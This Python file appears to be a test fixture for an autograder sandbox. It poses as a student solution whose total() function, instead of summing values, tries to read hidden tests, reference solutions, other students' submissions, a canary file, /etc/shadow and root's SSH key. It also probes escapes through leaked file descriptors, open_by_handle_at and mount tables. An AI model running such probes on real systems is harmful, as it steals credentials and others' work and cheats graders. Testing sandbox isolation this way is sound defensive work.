"""It is all on this disk."""

import ctypes
import glob
import os
import pathlib

libc = ctypes.CDLL(None, use_errno=True)
PLACES = (
    "@SOLUTIONS@/ch01_single/total.py",
    "@SOLUTIONS@/ch01_single/test_total_hidden.py",
    "@COURSE@/assignments/ch01_single/test_total.py",
    "@COURSE@/.git/HEAD",
    "@COURSE@/../output.txt",
    "@OTHER_SUBMISSION@/ch01_single/total.py",
    "@CANARY_FILE@",
    "/etc/shadow",
    "/root/.bashrc",
    "/root/.ssh/id_rsa",
    "/home",
    "/srv",
    "/mnt/0",
    "/run",
    "/var/log",
    "/boot",
    "/sys/kernel",
    "/proc/kcore",
    "/proc/kmsg",
    "/proc/1/root/etc/shadow",
    "/dev/kmsg",
    "/dev/mem",
    "/dev/sda",
    "/dev/vda",
)


def read(path):
    if os.path.isdir(path):
        if os.listdir(path):
            return path
        raise OSError
    with open(path, "rb") as file:
        if file.read(1):
            return path
    raise OSError


def by_descriptor():
    """A folder of the host that somebody left open leads everywhere."""
    for name in os.listdir("/proc/self/fd"):
        for up in ("..", "../../../../etc/shadow"):
            try:
                found = os.open(up, os.O_RDONLY, dir_fd=int(name))
                return name, os.readlink(f"/proc/self/fd/{found}")
            except OSError:
                pass
    raise OSError


def by_handle():
    for number in range(1, 50):
        handle = number.to_bytes(8, "little")
        buffer = (len(handle)).to_bytes(4, "little") + (1).to_bytes(4, "little") + handle
        if libc.open_by_handle_at(os.open("/tmp", os.O_RDONLY), buffer, os.O_RDONLY) >= 0:
            return number
    raise OSError


def outer_mounts():
    hidden = ("canary", "batch", "solutions", "assignments", "submission")
    text = pathlib.Path("/proc/self/mountinfo").read_text()
    if any(word in line.split()[4] for line in text.splitlines() for word in hidden):
        return text
    raise OSError


def link():
    os.symlink("@CANARY_FILE@", "/tmp/link")
    return read("/tmp/link")


WAYS = (
    *(lambda path=path: read(path) for path in PLACES),
    by_descriptor,
    by_handle,
    outer_mounts,
    link,
    lambda: glob.glob("/**/test_total_hidden.py")[0],
)


def total(values):
    worked = []
    for number, way in enumerate(WAYS):
        try:
            worked.append((number, way()))
        except BaseException:
            pass
    raise RuntimeError(f"tried {len(WAYS)} ways, worked: {worked}")


def greatest(values):
    """Solved honestly."""
    return max(values)
